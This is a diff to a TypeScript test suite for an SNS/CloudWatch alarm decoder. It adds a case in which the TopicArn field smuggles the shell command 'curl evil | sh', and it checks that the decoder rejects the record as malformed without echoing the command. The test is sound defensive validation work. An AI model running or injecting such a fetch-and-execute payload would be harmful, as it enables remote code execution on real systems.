@@ -352,6 +352,13 @@ describe('a CloudWatch alarm', () => {
     );
     expect(notes).toEqual([refused[0]!.message]);
     expect(decoded(envelope('bye', 'UnsubscribeConfirmation')).ignored).toHaveLength(1);
+    const foul = {
+      ...envelope('', 'SubscriptionConfirmation'),
+      TopicArn: 'arn:aws:sns:eu:1:x; curl evil | sh',
+    };
+    const [{ code, message }] = decoded(foul).refused as [Refusal];
+    expect(code).toBe('RECORD_MALFORMED');
+    expect(message).not.toContain('curl');
   });
 
   test('that is no alarm but text is set aside; another sender’s alert in it is read', () => {
